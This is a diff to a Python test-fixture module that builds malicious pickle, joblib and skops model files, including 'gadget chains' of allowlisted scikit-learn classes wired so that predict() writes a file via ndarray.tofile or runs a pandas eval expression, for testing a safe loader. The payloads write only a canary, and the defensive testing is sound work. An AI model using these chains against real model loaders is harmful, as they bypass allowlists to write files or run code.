@@ -1,16 +1,21 @@
-"""A corpus of malicious pickle and joblib files for the safe loader's tests.
+"""A corpus of malicious pickle, joblib and skops files for the safe loader's tests.
 
 Every payload is harmless: if it ran, it would only create its own marker file in the test's
 temporary directory. ``build_corpus`` writes the files; each ``Specimen`` says which
 technique it uses, which imports or calls the loader must name when it refuses it, and how a
 plain loader (``pickle``, ``joblib.load``, ``numpy.load``) would be made to run it, so the
 tests can prove that every payload is live.
+
+``build_gadgets`` writes the second kind: models that name only allowlisted classes (so every
+import passes) but are wired so that ``predict()`` runs the payload, and ``run_gadget_plainly``
+proves each one live.
 """
 
 from __future__ import annotations
 
 import builtins
 import functools
+import importlib
 import io
 import marshal
 import operator
@@ -31,7 +36,19 @@ import joblib
 import numpy as np
 from joblib.numpy_pickle_compat import NDArrayWrapper, write_zfile
 
-__all__ = ["CORPUS_SIZE", "Specimen", "build_corpus", "run_with_plain_loader"]
+__all__ = [
+    "CORPUS_SIZE",
+    "GADGET_COUNT",
+    "GADGET_INPUT_COLUMNS",
+    "REEXPORT_MODULE",
+    "Gadget",
+    "Specimen",
+    "build_corpus",
+    "build_gadgets",
+    "run_gadget_plainly",
+    "run_with_plain_loader",
+    "tofile_gadget",
+]
 
 #: How many files ``build_corpus`` writes (tests parametrize over this many).
 CORPUS_SIZE = 45
@@ -633,3 +650,230 @@ def run_with_plain_loader(specimen: Specimen) -> None:
             item.close()
         elif isinstance(item, types.FunctionType):
             item()
+
+
+# --------------------------------------------------------------------------------------------
+# Gadget chains: allowlisted classes only, wired to run a payload at predict time
+
+#: How many files ``build_gadgets`` writes.
+GADGET_COUNT = 6
+#: The columns of the one-row frame ``run_gadget_plainly`` predicts on.
+GADGET_INPUT_COLUMNS = ("a", "b")
+#: The module a project could trust that re-exports ``pandas.DataFrame.eval``.
+REEXPORT_MODULE = "gadget_project"
+
+
+@dataclass(frozen=True)
+class Gadget:
+    """A model whose every import is allowlisted but whose ``predict()`` writes ``canary``."""
+
+    name: str
+    technique: str
+    path: Path
+    canary: Path
+    findings: tuple[str, ...]  # what the refusal must name: attribute paths, callables
+    fmt: str  # "pickle", "joblib" or "skops": how an unguarded load reads it
+    trust: tuple[str, ...] = ()
+
+
+def build_gadgets(directory: Path) -> list[Gadget]:
+    """Write the gadget chains into ``directory`` and describe them."""
+    directory.mkdir(parents=True, exist_ok=True)
+    gadgets: list[Gadget] = []
+
+    def add(
+        name: str,
+        technique: str,
+        findings: tuple[str, ...],
+        write: Callable[[Path, Path], None],
+        fmt: str = "pickle",
+        trust: tuple[str, ...] = (),
+    ) -> None:
+        suffix = {"pickle": ".pkl", "joblib": ".joblib", "skops": ".skops"}[fmt]
+        path = directory / f"gadget_{len(gadgets):02d}_{name}{suffix}"
+        canary = directory / f"gadget_{len(gadgets):02d}_{name}.canary"
+        write(path, canary)
+        gadgets.append(Gadget(name, technique, path, canary, findings, fmt, trust))
+
+    stacking = (
+        "steps[3][1].stack_method_: 'tofile' is not a method a model may be told to call",
+        "steps[3][1].estimators_[0]: a numpy:ndarray object where an estimator belongs",
+        "steps[1][1].kw_args['out']: the keyword argument 'out'",
+        "steps[0][1].func: builtins.str is not an allowed callable",
+    )
+    add(
+        "stacking_tofile",
+        "StackingClassifier.stack_method_ names ndarray.tofile; ufunc out= injects the path",
+        stacking,
+        lambda path, canary: path.write_bytes(pickle.dumps(tofile_gadget(canary), protocol=4)),
+    )
+    add(
+        "stacking_tofile_joblib",
+        "the ndarray.tofile chain as a compressed joblib dump",
+        stacking,
+        lambda path, canary: _joblib_dump(tofile_gadget(canary), path, compress=3),
+        fmt="joblib",
+    )
+    add(
+        "stacking_tofile_skops",
+        "the ndarray.tofile chain as .skops (its default trusted types admit every piece)",
+        stacking,
+        lambda path, canary: _skops().dump(tofile_gadget(canary), path),
+        fmt="skops",
+    )
+    add(
+        "nested_in_column_transformer",
+        "the ndarray.tofile chain inside a fitted ColumnTransformer inside a Pipeline",
+        ("steps[0][1].transformers_[0][1].steps[3][1].stack_method_: 'tofile'",),
+        lambda path, canary: path.write_bytes(pickle.dumps(_nested_chain(canary), protocol=4)),
+    )
+    add(
+        "reexported_frame_eval",
+        "FunctionTransformer(DataFrame.eval, kw_args={expr}) through a trusted module's alias",
+        (f"{REEXPORT_MODULE}:frame_eval (re-exported from pandas.core.frame:DataFrame.eval",),
+        _reexported_eval,
+        trust=(REEXPORT_MODULE,),
+    )
+    add(
+        "skops_bound_tofile",
+        "skops MethodNode: FunctionTransformer(func=<array>.tofile) after the path chain",
+        ("numpy:ndarray.tofile (a bound method of ndarray objects",),
+        _skops_bound_tofile,
+        fmt="skops",
+    )
+    return gadgets
+
+
+def run_gadget_plainly(gadget: Gadget) -> None:
+    """Load a gadget the unguarded way and predict one row (the payload writes the canary)."""
+    import pandas as pd
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        if gadget.fmt == "skops":
+            sio = _skops()
+            model = sio.load(gadget.path, trusted=sio.get_untrusted_types(file=gadget.path))
+        else:
+            model = joblib.load(gadget.path)
+        row = pd.DataFrame([[0.5, 1.5]], columns=list(GADGET_INPUT_COLUMNS))
+        try:
+            model.predict(row)
+        except Exception:  # the chain breaks after its payload has run
+            return
+
+
+def _skops() -> Any:
+    import skops.io
+
+    return skops.io
+
+
+def _path_chain(canary: Path) -> list[tuple[str, Any]]:
+    """Pipeline steps that turn any input into the string ``str(canary)``.
+
+    str(X) is a string; np.positive(<string>, out=<0-d array holding the path>, where=False)
+    computes nothing and returns its ``out`` array; str() of that 0-d array is the path.
+    """
+    from sklearn.preprocessing import FunctionTransformer
+
+    into_path = {"out": np.array(str(canary)), "where": False, "dtype": object, "casting": "unsafe"}
+    return [
+        ("text", FunctionTransformer(str)),
+        ("path", FunctionTransformer(np.positive, kw_args=into_path)),
+        ("unwrap", FunctionTransformer(str)),
+    ]
+
+
+def tofile_gadget(canary: Path) -> Any:
+    """A Pipeline whose predict(X) ends in getattr(<bytes array>, "tofile")(str(canary)),
+    through StackingClassifier._transform; every class in it is allowlisted."""
+    from sklearn.ensemble import StackingClassifier
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import Pipeline
+
+    stack = StackingClassifier([("model", LogisticRegression())])
+    stack.estimators_ = [np.array([b"attacker bytes\n"])]
+    stack.stack_method_ = ["tofile"]
+    stack.final_estimator_ = LogisticRegression()
+    return Pipeline([*_path_chain(canary), ("write", stack)])
+
+
+def _nested_chain(canary: Path) -> Any:
+    import pandas as pd
+    from sklearn.compose import ColumnTransformer
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import make_pipeline
+    from sklearn.preprocessing import StandardScaler
+
+    columns = list(GADGET_INPUT_COLUMNS)
+    frame = pd.DataFrame([[0.0, 1.0], [1.0, 0.0], [2.0, 1.0]], columns=columns)
+    model = make_pipeline(
+        ColumnTransformer([("scale", StandardScaler(), columns)]), LogisticRegression()
+    ).fit(frame, [0, 1, 0])
+    prepare = model.steps[0][1]
+    prepare.transformers_[0] = ("scale", tofile_gadget(canary), columns)
+    return model
+
+
+def _reexported_eval(path: Path, canary: Path) -> None:
+    """A trusted project module that re-exports DataFrame.eval; the pickle names the alias."""
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import Pipeline
+    from sklearn.preprocessing import FunctionTransformer
+
+    (path.parent / f"{REEXPORT_MODULE}.py").write_text(
+        "import pandas\n\nframe_eval = pandas.DataFrame.eval\n"
+    )
+    importlib.invalidate_caches()
+    rng = np.random.default_rng(0)
+    final = LogisticRegression().fit(rng.normal(size=(20, 2)), [0, 1] * 10)
+    expression = f"@np.array([1]).tofile({str(canary)!r})"  # pandas' python engine runs it
+    kw_args = {"expr": expression, "engine": "python"}
+    model = Pipeline([("eval", FunctionTransformer(np.positive, kw_args=kw_args)), ("m", final)])
+    data = pickle.dumps(model, protocol=2)
+    placeholder = b"cnumpy\npositive\n"
+    assert data.count(placeholder) == 1
+    path.write_bytes(data.replace(placeholder, f"c{REEXPORT_MODULE}\nframe_eval\n".encode()))
+
+
+def _skops_bound_tofile(path: Path, canary: Path) -> None:
+    """skops writes bound Python methods as MethodNodes; this one is edited to name
+    ``tofile`` on an array stored in the file (skops looks the method up by name)."""
+    import json
+    import zipfile
+
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import Pipeline
+    from sklearn.preprocessing import FunctionTransformer
+
+    class Holder:
+        def tofile(self, *args: Any) -> None:
+            pass
+
+    write = FunctionTransformer(Holder().tofile)
+    payload = np.array([b"attacker bytes\n"])
+    write.payload_ = payload  # so the archive holds the array the method is bound to
+    final = LogisticRegression().fit([[0.0, 1.0], [1.0, 0.0]], [0, 1])
+    model = Pipeline([*_path_chain(canary), ("write", write), ("model", final)])
+    buffer = io.BytesIO(_skops().dumps(model))
+    with zipfile.ZipFile(buffer) as archive:
+        files = {name: archive.read(name) for name in archive.namelist()}
+    schema = json.loads(files["schema.json"])
+
+    def nodes(node: Any) -> Any:
+        if isinstance(node, dict):
+            yield node
+            for value in node.values():
+                yield from nodes(value)
+        elif isinstance(node, list):
+            for value in node:
+                yield from nodes(value)
+
+    method = next(n for n in nodes(schema) if n.get("__loader__") == "MethodNode")
+    array = next(n for n in nodes(schema) if n.get("__id__") == id(payload))
+    method["__class__"], method["__module__"] = "ndarray", "numpy"
+    method["content"]["obj"] = dict(array)
+    files["schema.json"] = json.dumps(schema).encode()
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, data in files.items():
+            archive.writestr(name, data)
